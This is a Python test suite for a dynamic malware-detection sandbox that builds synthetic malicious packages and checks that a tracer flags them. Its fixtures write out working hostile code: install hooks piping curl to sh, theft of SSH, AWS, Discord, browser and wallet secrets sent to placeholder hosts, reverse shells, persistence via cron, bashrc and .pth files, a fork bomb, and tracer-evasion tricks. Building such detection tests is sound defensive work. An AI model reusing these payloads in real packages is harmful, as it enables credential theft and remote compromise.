"""End-to-end: synthetic malicious distributions, generated here, each
judged `malicious` (or `suspicious` where that is the honest answer) with
the behaviour evidence that shows what it did: the tracer's findings
(trace.*, honeytoken.*), their phase and process. The static scan may
flag the same packages; these tests insist on the dynamic evidence.

Covered: cmdclass running a shell at install; phoning home at install and
at import over HTTP, raw TCP and DNS; os.environ sent out; reading
~/.ssh, ~/.aws, Discord tokens, browser data and wallets; download,
chmod, run; exec(base64...); reverse shells; persistence through .bashrc,
cron, systemd user units and .pth files; sandbox probing and sleeping
past the phase; a fork bomb; a typosquatted name with a payload; a test
file that fires only in the test phase. And evasions: threads, vfork
(posix_spawn), dirfd-relative paths, symlinks, the x32 ABI, io_uring,
and a path changed under the tracer (TOCTOU), caught by the bait files'
access times."""
import textwrap

import pytest

import tracesuite as ts


def code(*parts):
    """Python source from parts, each dedented on its own."""
    return "".join(textwrap.dedent(p) for p in parts)

READ_SSH = """
    import os
    def _grab():
        with open(os.path.expanduser("~/.ssh/id_rsa")) as f:
            return f.read()
    try:
        _KEY = _grab()
    except OSError:
        _KEY = None
    def answer():
        return 42
"""

UDP_SEND = """
    import socket
    def send(data, host="203.0.113.9", port=53):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.sendto(data, (host, port))
        except OSError:
            pass
"""


def case_cmdclass_shell(tmp):
    setup = """
        import os
        from setuptools import setup
        from setuptools.command.install import install
        from setuptools.command.build_py import build_py

        def payload():
            os.system("curl -s http://203.0.113.50/stage2.sh | sh")

        class Install(install):
            def run(self):
                payload()
                install.run(self)

        class BuildPy(build_py):
            def run(self):
                payload()
                build_py.run(self)

        setup(name="demo-pkg", version="1.0", package_dir={"": "src"},
              packages=["demo_pkg"], cmdclass={"install": Install, "build_py": BuildPy})
    """
    return ts.sdist(tmp, "demo-pkg", {}, setup_py=setup)


def case_install_http(tmp):
    setup = """
        import socket, urllib.request
        from setuptools import setup
        try:
            urllib.request.urlopen("http://collect.example-telemetry.net/i?h=" + socket.gethostname(),
                                   timeout=3)
        except Exception:
            pass
        setup(name="demo-pkg", version="1.0", package_dir={"": "src"}, packages=["demo_pkg"])
    """
    return ts.sdist(tmp, "demo-pkg", {}, setup_py=setup)


def case_import_raw_tcp(tmp):
    return ts.wheel(tmp, "tcp-beacon", {"tcp_beacon/__init__.py": """
        import socket
        try:
            socket.create_connection(("198.51.100.7", 4444), timeout=2).sendall(b"hello")
        except OSError:
            pass
    """})


def case_import_dns(tmp):
    return ts.wheel(tmp, "dns-beacon", {"dns_beacon/__init__.py": """
        import socket
        try:
            socket.gethostbyname("beacon.c2-example.org")
        except OSError:
            pass
    """})


def case_env_exfil_udp(tmp):
    return ts.wheel(tmp, "env-stealer", {"env_stealer/__init__.py": code(UDP_SEND, """
        import json, os
        send(json.dumps(dict(os.environ)).encode())
    """)})


def case_env_exfil_dns(tmp):
    return ts.wheel(tmp, "env-dns", {"env_dns/__init__.py": """
        import os, socket
        try:
            socket.gethostbyname(os.environ.get("AWS_ACCESS_KEY_ID", "x") + ".exfil-example.net")
        except OSError:
            pass
    """})


def case_read_ssh(tmp):
    return ts.wheel(tmp, "ssh-reader", {"ssh_reader/__init__.py": READ_SSH})


def case_aws_exfil(tmp):
    return ts.wheel(tmp, "aws-stealer", {"aws_stealer/__init__.py": code(UDP_SEND, """
        import os
        try:
            send(open(os.path.expanduser("~/.aws/credentials"), "rb").read(), port=9999)
        except OSError:
            pass
    """)})


def case_discord(tmp):
    return ts.wheel(tmp, "discord-grab", {"discord_grab/__init__.py": """
        import os, re
        base = os.path.expanduser("~/.config/discord/Local Storage/leveldb")
        tokens = []
        try:
            for name in os.listdir(base):
                if name.endswith((".ldb", ".log")):
                    data = open(os.path.join(base, name), errors="ignore").read()
                    tokens += re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27,}", data)
        except OSError:
            pass
    """})


def case_browser(tmp):
    return ts.wheel(tmp, "browser-grab", {"browser_grab/__init__.py": """
        import os, shutil, sqlite3, tempfile
        src = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
        try:
            dst = os.path.join(tempfile.gettempdir(), "ld.db")
            shutil.copyfile(src, dst)
            rows = sqlite3.connect(dst).execute(
                "select origin_url, username_value, password_value from logins").fetchall()
        except Exception:
            rows = []
    """})


def case_wallet(tmp):
    return ts.wheel(tmp, "wallet-grab", {"wallet_grab/__init__.py": """
        import glob, os
        found = {}
        for pat in ("~/.electrum/wallets/*", "~/.bitcoin/wallet.dat", "~/.ethereum/keystore/*"):
            for p in glob.glob(os.path.expanduser(pat)):
                try:
                    found[p] = open(p, "rb").read()
                except OSError:
                    pass
    """})


def case_download_chmod_run(tmp):
    return ts.wheel(tmp, "dropper-pkg", {"dropper_pkg/__init__.py": """
        import os, subprocess, urllib.request
        path = "/tmp/.cache-update"
        try:
            payload = urllib.request.urlopen("http://203.0.113.66/payload", timeout=2).read()
        except Exception:
            payload = b"#!/bin/sh\\necho updated\\n"
        with open(path, "wb") as f:
            f.write(payload)
        os.chmod(path, 0o755)
        subprocess.run([path])
    """})


def case_exec_base64(tmp):
    import base64
    inner = (b"import socket\ntry:\n    socket.create_connection(('192.0.2.1', 8080), timeout=2)\n"
             b"except OSError:\n    pass\n")
    code = base64.b64encode(inner).decode()
    return ts.wheel(tmp, "b64-loader", {"b64_loader/__init__.py": f"""
        import base64
        exec(base64.b64decode("{code}"))
    """})


def case_reverse_shell_remote(tmp):
    return ts.wheel(tmp, "revshell", {"revshell/__init__.py": """
        import os, pty, socket
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect(("10.13.37.1", 4444))
            for fd in (0, 1, 2):
                os.dup2(s.fileno(), fd)
            pty.spawn("/bin/sh")
        except OSError:
            pass
    """})


def case_reverse_shell_socket_stdio(tmp):
    # Nothing outside can be reached, so the "attacker" listens on the
    # sandbox's own loopback: a shell still gets a socket for its streams.
    return ts.wheel(tmp, "revshell-lo", {"revshell_lo/__init__.py": """
        import os, socket, subprocess
        srv = socket.socket()
        srv.bind(("127.0.0.1", 0))
        srv.listen(1)
        c = socket.create_connection(srv.getsockname())
        peer, _ = srv.accept()
        peer.sendall(b"exit 0\\n")
        subprocess.run(["/bin/sh", "-i"], stdin=c.fileno(), stdout=c.fileno(),
                       stderr=c.fileno(), timeout=10)
    """})


def case_persist_bashrc(tmp):
    return ts.wheel(tmp, "bashrc-persist", {"bashrc_persist/__init__.py": """
        import os
        with open(os.path.expanduser("~/.bashrc"), "a") as f:
            f.write("\\n(curl -s http://203.0.113.5/x | sh) >/dev/null 2>&1 &\\n")
    """})


def case_persist_cron(tmp):
    return ts.wheel(tmp, "cron-persist", {"cron_persist/__init__.py": """
        for path in ("/etc/cron.d/update", "/var/spool/cron/crontabs/pyti"):
            try:
                with open(path, "w") as f:
                    f.write("* * * * * root curl -s http://203.0.113.5/x | sh\\n")
            except OSError:
                pass
    """})


def case_persist_systemd(tmp):
    return ts.wheel(tmp, "systemd-persist", {"systemd_persist/__init__.py": """
        import os
        d = os.path.expanduser("~/.config/systemd/user")
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "updater.service"), "w") as f:
            f.write("[Service]\\nExecStart=/tmp/.u\\n")
    """})


def case_persist_pth(tmp):
    return ts.wheel(tmp, "pth-persist", {"pth_persist/__init__.py": """
        import site, os
        for d in site.getsitepackages():
            try:
                with open(os.path.join(d, "zzz_hook.pth"), "w") as f:
                    f.write("import os; os.system('id')\\n")
                break
            except OSError:
                pass
    """})


def case_sandbox_probe(tmp):
    return ts.wheel(tmp, "probe-pkg", {"probe_pkg/__init__.py": """
        import os, time
        signs = 0
        for p in ("/proc/1/cgroup", "/.dockerenv", "/sys/class/dmi/id/product_name",
                  "/etc/hostname"):
            try:
                open(p).read()
                signs += 1
            except OSError:
                pass
        time.sleep(40)  # outlast the analysis
    """})


def case_fork_bomb(tmp):
    return ts.wheel(tmp, "forkbomb", {"forkbomb/__init__.py": """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """})


def case_typosquat(tmp):
    return ts.wheel(tmp, "reqeusts", {"reqeusts/__init__.py": code(UDP_SEND, """
        import os
        try:
            send(open(os.path.expanduser("~/.pypirc"), "rb").read())
        except OSError:
            pass
    """)})


def case_test_phase_only(tmp):
    test = """
        import os, socket

        def test_answer():
            try:
                key = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(key[:900], ("203.0.113.9", 53))
            except OSError:
                pass
            assert 6 * 7 == 42
    """
    return ts.sdist(tmp, "demo-pkg", {"tests/test_answer.py": test})


# ---- evasions -------------------------------------------------------------

def case_thread(tmp):
    return ts.wheel(tmp, "thread-thief", {"thread_thief/__init__.py": code(UDP_SEND, """
        import os, threading
        def work():
            try:
                send(open(os.path.expanduser("~/.aws/credentials"), "rb").read(), port=8125)
            except OSError:
                pass
        t = threading.Thread(target=work)
        t.start()
        t.join()
    """)})


def case_vfork_spawn(tmp):
    return ts.wheel(tmp, "spawn-thief", {"spawn_thief/__init__.py": """
        import os
        pid = os.posix_spawn("/bin/cat", ["cat", os.path.expanduser("~/.ssh/id_rsa")],
                             {"PATH": "/usr/bin"},
                             file_actions=[(os.POSIX_SPAWN_OPEN, 1, "/dev/null", os.O_WRONLY, 0)])
        os.waitpid(pid, 0)
    """})


def case_dirfd(tmp):
    return ts.wheel(tmp, "dirfd-thief", {"dirfd_thief/__init__.py": """
        import os
        home = os.open(os.path.expanduser("~"), os.O_RDONLY | os.O_DIRECTORY)
        os.chdir("/tmp")
        try:
            fd = os.open(".ssh/../.ssh/./id_rsa", os.O_RDONLY, dir_fd=home)
            os.read(fd, 100)
        except OSError:
            pass
    """})


def case_symlink(tmp):
    return ts.wheel(tmp, "link-thief", {"link_thief/__init__.py": """
        import os
        link = "/tmp/innocent.txt"
        try:
            os.symlink(os.path.expanduser("~/.config/google-chrome/Default/Cookies"), link)
            open(link, "rb").read()
        except OSError:
            pass
    """})


def case_x32_abi(tmp):
    return ts.wheel(tmp, "x32-evader", {"x32_evader/__init__.py": """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        # open(2) through the x32 ABI (bit 30 set): a different filter path
        libc.syscall(ctypes.c_long(0x40000000 | 2), ctypes.c_char_p(b"/etc/hostname"), 0)
    """})


def case_io_uring(tmp):
    return ts.wheel(tmp, "uring-evader", {"uring_evader/__init__.py": """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        params = ctypes.create_string_buffer(120)
        libc.syscall(425, 8, params)  # io_uring_setup: reads would bypass seccomp
    """})


def case_toctou(tmp):
    # One thread flips a path buffer between a harmless file and a bait
    # while another opens it: what the tracer read may not be what the
    # kernel opened. The bait's access time tells.
    return ts.wheel(tmp, "race-thief", {"race_thief/__init__.py": """
        import ctypes, os, threading
        libc = ctypes.CDLL(None, use_errno=True)
        bait = os.path.expanduser("~/.ssh/id_rsa").encode()
        harmless = b"/etc/hostname".ljust(len(bait), b"\\0")
        buf = ctypes.create_string_buffer(harmless, len(bait) + 1)
        stop = False
        def flip():
            while not stop:
                ctypes.memmove(buf, bait + b"\\0", len(bait) + 1)
                ctypes.memmove(buf, harmless + b"\\0", len(bait) + 1)
        t = threading.Thread(target=flip)
        t.start()
        for _ in range(3000):
            fd = libc.open(buf, os.O_RDONLY)
            if fd >= 0:
                os.read(fd, 16)
                os.close(fd)
        stop = True
        t.join()
    """})


# (name, builder, allowed safety verdicts, behaviour ids that must all be present,
#  the phase of the decisive evidence)
MALICIOUS = [
    ("cmdclass-shell", case_cmdclass_shell, {"malicious"}, {"trace.exec-downloader"}, "build"),
    ("install-http", case_install_http, {"suspicious", "malicious"}, {"trace.dns-query"}, "build"),
    ("import-raw-tcp", case_import_raw_tcp, {"suspicious"}, {"trace.network"}, "import"),
    ("import-dns", case_import_dns, {"suspicious"}, {"trace.dns-query"}, "import"),
    ("env-exfil-udp", case_env_exfil_udp, {"malicious"}, {"honeytoken.used", "trace.network"},
     "import"),
    ("env-exfil-dns", case_env_exfil_dns, {"malicious"}, {"honeytoken.used", "trace.dns-query"},
     "import"),
    ("read-ssh", case_read_ssh, {"malicious"}, {"honeytoken.read"}, "import"),
    ("aws-exfil", case_aws_exfil, {"malicious"},
     {"honeytoken.read", "honeytoken.used", "trace.exfiltration"}, "import"),
    ("discord-token", case_discord, {"malicious"}, {"honeytoken.read"}, "import"),
    ("browser-data", case_browser, {"malicious"}, {"honeytoken.read"}, "import"),
    ("crypto-wallet", case_wallet, {"malicious"}, {"honeytoken.read"}, "import"),
    ("download-chmod-run", case_download_chmod_run, {"malicious"},
     {"trace.dropper", "trace.network"}, "import"),
    ("exec-base64", case_exec_base64, {"malicious"}, {"trace.network"}, "import"),
    ("reverse-shell", case_reverse_shell_remote, {"malicious"}, {"trace.network"}, "import"),
    ("reverse-shell-stdio", case_reverse_shell_socket_stdio, {"malicious"},
     {"trace.reverse-shell"}, "import"),
    ("persist-bashrc", case_persist_bashrc, {"malicious"}, {"trace.persistence"}, "import"),
    ("persist-cron", case_persist_cron, {"malicious"}, {"trace.persistence"}, "import"),
    ("persist-systemd", case_persist_systemd, {"malicious"}, {"trace.persistence"}, "import"),
    ("persist-pth", case_persist_pth, {"malicious"}, {"trace.startup-hook"}, "import"),
    ("sandbox-probe", case_sandbox_probe, {"suspicious"},
     {"trace.sandbox-probe", "trace.long-sleep", "trace.outlasted"}, "import"),
    ("fork-bomb", case_fork_bomb, {"malicious"}, {"trace.fork-bomb"}, "import"),
    ("typosquat", case_typosquat, {"malicious"}, {"honeytoken.read", "honeytoken.used"},
     "import"),
    ("test-phase-only", case_test_phase_only, {"malicious"},
     {"honeytoken.read", "honeytoken.used"}, "test"),
    ("evasion-thread", case_thread, {"malicious"}, {"honeytoken.read", "honeytoken.used"},
     "import"),
    ("evasion-vfork", case_vfork_spawn, {"malicious"}, {"honeytoken.read"}, "import"),
    ("evasion-dirfd", case_dirfd, {"malicious"}, {"honeytoken.read"}, "import"),
    ("evasion-symlink", case_symlink, {"malicious"}, {"honeytoken.read"}, "import"),
    ("evasion-x32", case_x32_abi, {"suspicious"}, {"trace.evasion"}, "import"),
    ("evasion-io-uring", case_io_uring, {"suspicious"}, {"trace.evasion"}, "import"),
]


@pytest.mark.parametrize("name,build,safety,want,phase", MALICIOUS,
                         ids=[m[0] for m in MALICIOUS])
def test_malicious(pyti, tmp_path, name, build, safety, want, phase):
    dist = build(tmp_path)
    report, cp = ts.run(pyti, tmp_path, dist, import_timeout=8 if name == "sandbox-probe" else 60)
    why = ts.explain(report)
    assert report["verdict"]["safety"] in safety, why
    assert cp.returncode == 1, why
    got = ts.ids(report)
    assert want <= got, why
    # the evidence names the phase, the process and what it did
    decisive = [f for f in ts.findings(report) if f["id"] in want]
    assert any(f["where"].startswith(phase + ":") or f["where"] == phase for f in decisive), why
    assert all(f.get("excerpt") or f["where"] == phase for f in decisive), why
    ev = [e for e in report["verdict"]["safety_evidence"] if e.get("id") in want]
    assert ev, why
    # and the timeline has the events in time order, with task and phase
    times = [e["t"] for e in report["events"] if "t" in e]
    assert times == sorted(times)
    assert all(e.get("task") and e.get("phase") for e in report["events"])
    if name == "test-phase-only":
        assert not [f for f in ts.findings(report) if f["where"].startswith("import:")], why


def test_toctou_is_caught_by_the_bait_access_time(pyti, tmp_path):
    report, _ = ts.run(pyti, tmp_path, case_toctou(tmp_path))
    why = ts.explain(report)
    assert report["verdict"]["safety"] == "malicious", why
    # Either the tracer saw the bait path (the flip lost the race) or only
    # the access time did; the report must say the bait was read.
    assert ts.ids(report) & {"honeytoken.read", "honeytoken.read-untraced"}, why
    assert any("/.ssh/id_rsa" in (f.get("message") or "") + (f.get("excerpt") or "")
               for f in ts.findings(report)), why
